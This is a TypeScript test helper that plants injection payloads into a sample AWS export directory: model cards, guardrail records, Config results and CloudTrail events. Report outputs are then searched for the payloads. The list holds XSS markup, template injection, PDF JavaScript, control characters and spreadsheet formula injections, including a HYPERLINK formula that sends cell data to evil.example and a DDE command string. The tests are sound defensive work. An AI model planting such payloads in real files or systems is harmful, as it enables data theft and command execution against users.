/**
 * Injection payloads and where the injection scenario plants them in a real export directory (the Northwind
 * example estate): model-card text, a guardrail's name and description, Config resource ids, annotations,
 * resource names and tags, and CloudTrail event fields. Each output is then searched for the literal payloads.
 */
import { readdirSync, readFileSync, statSync, utimesSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { gunzipSync, gzipSync } from 'node:zlib';

export interface Payload {
  readonly id: string;
  readonly text: string;
  /** What a renderer must not turn it into. */
  readonly kind: 'markup' | 'template' | 'formula' | 'control' | 'pdf';
}

export const PAYLOADS: readonly Payload[] = [
  { id: 'script', text: '<script>window.__pwned=1</script>', kind: 'markup' },
  { id: 'img', text: '<img src=x onerror="window.__pwned=2">', kind: 'markup' },
  {
    id: 'svg',
    text: '<svg onload="window.__pwned=3"><a href="javascript:window.__pwned=4">x</a></svg>',
    kind: 'markup',
  },
  { id: 'attr-break', text: '" onmouseover="window.__pwned=5" x="', kind: 'markup' },
  { id: 'style', text: '</style><style>body{background:url(https://evil.example/x)}</style>', kind: 'markup' },
  { id: 'hbs-constructor', text: '{{constructor.constructor "window.__pwned=6"}}', kind: 'template' },
  { id: 'hbs-triple', text: '{{{evil}}} {{> styles}} {{#each this}}X{{/each}}', kind: 'template' },
  { id: 'csv-eq', text: '=HYPERLINK("https://evil.example/?"&A1,"x")', kind: 'formula' },
  { id: 'csv-plus', text: "+cmd|' /C calc'!A0", kind: 'formula' },
  { id: 'csv-minus', text: '-2+3+cmd|x', kind: 'formula' },
  { id: 'csv-at', text: '@SUM(1+1)*cmd|x', kind: 'formula' },
  { id: 'csv-tab', text: '\t=1+1', kind: 'formula' },
  { id: 'csv-cr', text: '\r=1+1', kind: 'formula' },
  { id: 'control', text: 'bell\u0007esc\u001b[31mred\u202egnp.exe', kind: 'control' },
  { id: 'pdf-js', text: ') /S /JavaScript /JS (app.alert(1)) >> /URI (https://evil.example/pdf', kind: 'pdf' },
];

function rewriteJson(file: string, edit: (doc: Record<string, unknown>) => void): void {
  const doc = JSON.parse(readFileSync(file, 'utf8')) as Record<string, unknown>;
  edit(doc);
  writeFileSync(file, JSON.stringify(doc, null, 2));
}

function filesUnder(dir: string): string[] {
  const out: string[] = [];
  for (const e of readdirSync(dir, { withFileTypes: true })) {
    const p = path.join(dir, e.name);
    if (e.isDirectory()) out.push(...filesUnder(p));
    else out.push(p);
  }
  return out.sort();
}

export interface Planted {
  /** Field → payload ids planted there. */
  readonly where: Record<string, string[]>;
}

/** Plants the payloads into an export directory of the Northwind example. Keeps each file's mtime. */
export function plantPayloads(root: string): Planted {
  const where: Record<string, string[]> = {};
  const note = (field: string, p: Payload): string => {
    (where[field] ??= []).push(p.id);
    return p.text;
  };
  const by = (ids: string[]): Payload[] => PAYLOADS.filter((p) => ids.includes(p.id));
  const cli = path.join(root, 'cli/111122223333/eu-west-1');
  const keepMtime = (file: string, fn: () => void): void => {
    const { atime, mtime } = statOf(file);
    fn();
    utimes(file, atime, mtime);
  };

  // Model card text: every payload in its description, the markup ones in owner and purpose too.
  const card = path.join(cli, 'sagemaker/describe-model-card.credit-risk-v3.json');
  keepMtime(card, () =>
    rewriteJson(card, (d) => {
      const c = JSON.parse(d['Content'] as string) as {
        model_overview: Record<string, unknown>;
        intended_uses: Record<string, unknown>;
      };
      c.model_overview['model_description'] = PAYLOADS.map((p) => note('model card description', p)).join(' | ');
      c.model_overview['model_owner'] = by(['script', 'csv-eq'])
        .map((p) => note('model card owner', p))
        .join(' ');
      c.intended_uses['purpose_of_model'] = by(['img', 'hbs-constructor', 'csv-at'])
        .map((p) => note('model card purpose', p))
        .join(' ');
      d['Content'] = JSON.stringify(c);
    }),
  );
  // A guardrail's description (its name must stay a valid name for the API, but the export file is not checked).
  const guardrail = filesUnder(path.join(cli, 'bedrock')).find((f) => path.basename(f).startsWith('get-guardrail.'))!;
  keepMtime(guardrail, () =>
    rewriteJson(guardrail, (d) => {
      d['description'] = by(['script', 'hbs-triple', 'csv-plus', 'pdf-js'])
        .map((p) => note('guardrail description', p))
        .join(' ');
      d['name'] = note('guardrail name', by(['csv-eq'])[0]!);
    }),
  );
  // Config: a non-compliant resource id and its annotation.
  const mfa = path.join(cli, 'configservice/get-compliance-details-by-config-rule.iam-user-mfa-enabled.json');
  keepMtime(mfa, () =>
    rewriteJson(mfa, (d) => {
      const results = d['EvaluationResults'] as {
        ComplianceType: string;
        Annotation?: string;
        EvaluationResultIdentifier: { EvaluationResultQualifier: { ResourceId: string } };
      }[];
      const bad = results.filter((r) => r.ComplianceType === 'NON_COMPLIANT');
      const ids = ['csv-eq', 'csv-minus', 'csv-tab', 'csv-cr', 'script', 'control'];
      bad.forEach((r, i) => {
        const p = by([ids[i % ids.length]!])[0]!;
        r.EvaluationResultIdentifier.EvaluationResultQualifier.ResourceId = note('config resource id', p);
        r.Annotation = note('config annotation', by(['img'])[0]!);
      });
    }),
  );
  // Config snapshot items: resource names and tags.
  const snapshots = filesUnder(path.join(root, 'AWSLogs/111122223333/Config')).filter((f) => f.endsWith('.json.gz'));
  for (const f of snapshots.slice(0, 1)) {
    keepMtime(f, () => {
      const doc = JSON.parse(gunzipSync(readFileSync(f)).toString('utf8')) as {
        configurationItems: Record<string, unknown>[];
      };
      doc.configurationItems.forEach((ci, i) => {
        const p = PAYLOADS[i % PAYLOADS.length]!;
        ci['resourceName'] = note('config resource name', p);
        ci['tags'] = { Owner: note('config tag', p), [`k-${p.id}`]: 'v' };
      });
      writeFileSync(f, gzipSync(JSON.stringify(doc)));
    });
  }
  // CloudTrail: user agent, user name and the names in request parameters of every event of two days.
  const logs = filesUnder(path.join(root, 'AWSLogs/111122223333/CloudTrail')).filter((f) => f.endsWith('.json.gz'));
  for (const f of logs.filter((_, i) => i % 5 === 0)) {
    keepMtime(f, () => {
      const doc = JSON.parse(gunzipSync(readFileSync(f)).toString('utf8')) as { Records: Record<string, unknown>[] };
      doc.Records.forEach((e, i) => {
        const p = PAYLOADS[i % PAYLOADS.length]!;
        e['userAgent'] = note('cloudtrail userAgent', p);
        const ui = e['userIdentity'] as Record<string, unknown> | undefined;
        if (ui && typeof ui['userName'] === 'string') ui['userName'] = note('cloudtrail userName', p);
        const rp = e['requestParameters'] as Record<string, unknown> | null | undefined;
        if (rp)
          for (const k of Object.keys(rp))
            if (/name$/i.test(k) && typeof rp[k] === 'string') rp[k] = note(`cloudtrail requestParameters.${k}`, p);
      });
      writeFileSync(f, gzipSync(JSON.stringify(doc)));
    });
  }
  for (const k of Object.keys(where)) where[k] = [...new Set(where[k])];
  return { where };
}

function statOf(file: string): { atime: Date; mtime: Date } {
  const s = statSync(file);
  return { atime: s.atime, mtime: s.mtime };
}
function utimes(file: string, atime: Date, mtime: Date): void {
  utimesSync(file, atime, mtime);
}
